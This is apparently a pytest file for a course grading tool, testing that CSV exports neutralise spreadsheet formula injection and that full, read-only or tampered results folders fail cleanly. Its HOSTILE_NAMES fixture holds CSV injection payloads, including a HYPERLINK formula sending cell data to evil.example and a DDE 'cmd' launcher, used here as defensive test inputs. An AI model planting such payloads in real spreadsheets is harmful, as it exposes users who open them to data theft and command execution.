"""Exports and results folders under attack or stress (issue 12, item 7): formula injection,
full and read-only disks, Moodle emails, a closed stdout, hand-edited or stray result files."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from grader.grade.exports import text_cell
from grader.grade.writes import OutputError, write_all_or_nothing
from tests.support.class_helpers import KNN_POINTS, invoke, knn_manifest
from tests.support.helpers import reference_text
from tests.support.paths import ROOT

# OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells starting with
# = + - @ tab or carriage return are run as formulas; prefix them with a single quote.
HOSTILE_NAMES = {"s1": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "s2": "+1+cmd|' /C calc'!A0",
                 "s3": "-2+3", "s4": "@SUM(1+1)", "s5": "\t=1+1", "s6": "\r=1+1", "s7": "  =1+1"}


def _class(base: Path) -> Path:
    subs = base / "subs"
    for sid in [*HOSTILE_NAMES, "plain"]:
        (subs / sid).mkdir(parents=True)
        (subs / sid / "knn.py").write_text(reference_text("knn"))
    return subs


def _roster(path: Path, header: str, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([header.split(","), *rows])
    return path


def _grade(subs: Path, out: Path, *extra: str) -> tuple[int, str]:
    manifest = knn_manifest(subs.parent / "m.json")
    return invoke("grade", str(subs), "--out", str(out), "--manifest", str(manifest),
                  "--jobs", "1", "--allow-unisolated", *extra)


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("hostile-exports")
    subs = _class(base)
    rows = [[sid, name, "=1", f"{sid}@uni.example"] for sid, name in HOSTILE_NAMES.items()]
    roster = _roster(base / "roster.csv", "id,name,section,email",
                     [*rows, ["plain", "Ann Lee", "A", "ann@uni.example"]])
    code, text = _grade(subs, base / "r", "--roster", str(roster))
    assert code == 0, text  # the run goes on whatever the names
    return base / "r"


def test_formula_cells_are_neutralised_in_every_csv(graded: Path) -> None:
    for name, col in (("gradebook.csv", 1), ("canvas.csv", 0), ("moodle.csv", 2)):
        rows = _rows(graded / name)
        body = rows[2:] if name == "canvas.csv" else rows[1:]
        names = {r[1 if name == "canvas.csv" else 0]: r[col] for r in body}
        for sid, raw in HOSTILE_NAMES.items():
            assert names[sid] == "'" + raw.strip(), (name, sid)  # roster cells are stripped when read
        assert names["plain"] == "Ann Lee"  # ordinary text is untouched
    gradebook = {r[0]: r for r in _rows(graded / "gradebook.csv")[1:]}
    assert gradebook["s1"][2] == "'=1"  # the section too
    assert float(gradebook["s1"][-1]) == KNN_POINTS  # numbers stay numbers


@pytest.mark.parametrize("raw", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1", "\uff1d1+1"])
def test_text_cell_prefixes_every_formula_start(raw: str) -> None:
    assert text_cell(raw) == "'" + raw
    assert text_cell("Ann " + raw) == "Ann " + raw  # only the start of a cell matters


def test_moodle_email_column_comes_from_the_email_column(graded: Path, tmp_path: Path) -> None:
    rows = _rows(graded / "moodle.csv")
    assert rows[0][:3] == ["ID number", "Email address", "Full name"]
    assert {r[0]: r[1] for r in rows[1:]}["plain"] == "ann@uni.example"
    # logins that are not email addresses: no Email address column (Moodle maps by ID number)
    subs = tmp_path / "subs"
    (subs / "plain").mkdir(parents=True)
    (subs / "plain" / "knn.py").write_text(reference_text("knn"))
    roster = _roster(tmp_path / "r.csv", "id,name,login", [["plain", "Ann Lee", "alee42"]])
    code, text = _grade(subs, tmp_path / "out", "--roster", str(roster))
    assert code == 0, text
    header = _rows(tmp_path / "out" / "moodle.csv")[0]
    assert header[:2] == ["ID number", "Full name"] and "Email address" not in header
    bad = _roster(tmp_path / "bad.csv", "id,name,email", [["plain", "Ann Lee", "alee42"]])
    code, text = _grade(subs, tmp_path / "out2", "--roster", str(bad))
    assert code == 2 and "not an email address" in text and "Traceback" not in text


def _load_again(folder: Path) -> tuple[int, str]:
    """Export a results folder again (every student graded: only the exports are rewritten)."""
    return invoke("merge", str(folder), "--out", str(folder))


def test_hand_edited_points_and_stray_copies_are_refused(graded: Path, tmp_path: Path) -> None:
    before = (graded / "gradebook.csv").read_text()
    edited = tmp_path / "edited"
    shutil.copytree(graded, edited)
    doc = json.loads((edited / "students" / "s3.json").read_text())
    doc["points"]["knn"] = KNN_POINTS * 10  # more than the case results earn
    (edited / "students" / "s3.json").write_text(json.dumps(doc))
    code, text = _load_again(edited)
    assert code == 2 and "s3.json: knn has 100 points but its cases earn 10" in text
    assert (edited / "gradebook.csv").read_text() == before  # nothing exported
    stray = tmp_path / "stray"
    shutil.copytree(graded, stray)
    shutil.copy(stray / "students" / "plain.json", stray / "students" / "plain (1).json")
    code, text = _load_again(stray)
    assert code == 2 and "plain (1).json holds the result of student 'plain'" in text
    assert "nothing was merged" in text
    assert (stray / "gradebook.csv").read_text() == before  # never a duplicate row
    verdict = tmp_path / "verdict"
    shutil.copytree(graded, verdict)
    doc = json.loads((verdict / "students" / "plain.json").read_text())
    doc["exercises"][0]["cases"][0]["points"] = 99.0
    (verdict / "students" / "plain.json").write_text(json.dumps(doc))
    code, text = _load_again(verdict)
    assert code == 2 and "has 99 points with verdict passed" in text
    manifest = tmp_path / "manifest"
    shutil.copytree(graded, manifest)
    doc = json.loads((manifest / "dlgrade-results.json").read_text())
    doc["manifest"]["exercises"][0]["points"] = 100.0  # the points possible, raised by hand
    (manifest / "dlgrade-results.json").write_text(json.dumps(doc))
    code, text = _load_again(manifest)
    assert code == 2 and "does not match the manifest hash" in text


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Iterator[Path]:
    """A real 48 KiB tmpfs: writes fail with ENOSPC like on a full disk (needs root)."""
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=48k", "tmpfs", str(mount)],
                          capture_output=True, check=False)
    if done.returncode != 0:
        pytest.skip("mounting a tmpfs needs root")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def test_full_disk_writes_nothing_partial(tiny_disk: Path) -> None:
    (tiny_disk / "gradebook.csv").write_text("old\n")
    (tiny_disk / "filler").write_bytes(b"x" * 30 * 1024)
    with pytest.raises(OutputError, match="No space left on device"):
        write_all_or_nothing({tiny_disk / "gradebook.csv": "a" * 8000, tiny_disk / "canvas.csv": "b" * 12000})
    assert (tiny_disk / "gradebook.csv").read_text() == "old\n"  # not replaced
    assert sorted(p.name for p in tiny_disk.iterdir()) == ["filler", "gradebook.csv"]  # no temp files


def test_full_or_read_only_out_is_one_line_and_exit_2(tiny_disk: Path, tmp_path: Path) -> None:
    subs = _class(tmp_path)
    code, text = _grade(subs, tiny_disk / "r")
    assert code == 2, text
    assert "error: cannot write" in text and "No space left on device" in text
    assert "Traceback" not in text and "internal error" not in text
    assert not list((tiny_disk / "r").rglob("*.tmp")) and not (tiny_disk / "r" / "gradebook.csv").exists()
    subprocess.run(["mount", "-o", "remount,ro", str(tiny_disk)], check=True)
    code, text = _grade(subs, tiny_disk / "elsewhere")
    assert code == 2 and "error: cannot write" in text and "Read-only file system" in text
    assert "Traceback" not in text


@pytest.mark.parametrize(("args", "code"), [
    (["--format", "json", "-s", str(ROOT / "solutions")], 0),
    (["-s", str(ROOT / "solutions")], 0),
    (["-s", str(ROOT / "exercises")], 1),
], ids=["json", "text", "failing"])
def test_closed_stdout_is_a_normal_end(args: list[str], code: int, tmp_path: Path) -> None:
    proc = subprocess.Popen([sys.executable, "-m", "grader", "check", "knn", *args],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=tmp_path,
                            env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT),  # this checkout's grader
                                 "DLGRADE_STORE": str(tmp_path / "p.sqlite3")})
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.close()  # `dlgrade check knn | head -0`
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=300) == code, err  # the grading's own exit code, not 3
    assert "internal error" not in err and "Traceback" not in err
    assert (tmp_path / "p.sqlite3").is_file()  # the attempt was still recorded


def test_any_command_on_a_read_only_folder_is_one_line(tiny_disk: Path) -> None:
    subprocess.run(["mount", "-o", "remount,ro", str(tiny_disk)], check=True)
    code, text = invoke("assign", "--out", str(tiny_disk / "release"), "--exercises", "knn")
    assert code == 2 and "Read-only file system" in text
    assert "Traceback" not in text and "internal error" not in text
